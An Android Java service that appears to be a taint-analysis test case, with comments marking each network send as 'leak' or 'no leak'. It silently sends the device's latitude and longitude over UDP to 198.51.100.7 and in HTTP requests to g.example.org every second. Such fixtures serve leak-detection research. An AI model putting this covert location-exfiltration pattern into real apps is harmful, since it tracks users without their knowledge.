package olden;

import android.app.*;
import android.content.*;
import android.location.*;
import android.os.*;

import java.net.*;
import java.util.*;

/** Places, to fields, an observer, a datagram and an address. */
public class Track extends Service {
    static double lat, lon;
    static long at;
    static Where w;

    interface Where {
        void moved(double a, double b);
    }

    static class L implements LocationListener {
        Context c;

        L(Context c) {
            this.c = c;
        }

        public void onLocationChanged(Location l) {
            if (l == null) return;
            lat = l.getLatitude();
            lon = l.getLongitude();
            at = System.currentTimeMillis();
            if (w != null) w.moved(lat, lon);
        }

        public void onProviderDisabled(String p) {}

        public void onProviderEnabled(String p) {}

        public void onStatusChanged(String p, int s, Bundle b) {}
    }

    public IBinder onBind(Intent i) {
        return null;
    }

    public void onCreate() {
        LocationManager m = (LocationManager) getSystemService("location");
        Criteria q = new Criteria();
        m.requestLocationUpdates(m.getBestProvider(q, true), 60000L, 10f, new L(this));
        w =
                new Where() {
                    public void moved(double a, double b) {
                        try {
                            DatagramSocket d = new DatagramSocket();
                            byte[] t = String.format(Locale.US, "%f,%f", a, b).getBytes();
                            d.send(
                                    new DatagramPacket(
                                            t,
                                            t.length,
                                            InetAddress.getByName("198.51.100.7"),
                                            5000)); // leak
                            byte[] t2 = ("t" + at).getBytes();
                            d.send(
                                    new DatagramPacket(
                                            t2,
                                            t2.length,
                                            InetAddress.getByName("198.51.100.7"),
                                            5000)); // no leak
                        } catch (Exception e) {
                        }
                    }
                };
        new Timer(true).scheduleAtFixedRate(new T(), 1000, 1000);
    }

    class T extends TimerTask {
        public void run() {
            try {
                String u = "http://g.example.org/?y=" + lat + "&x=" + lon;
                new URL(u).openStream().close(); // leak
                new URL("http://g.example.org/?t=" + at).openStream().close(); // no leak
            } catch (Exception e) {
            }
        }
    }
}
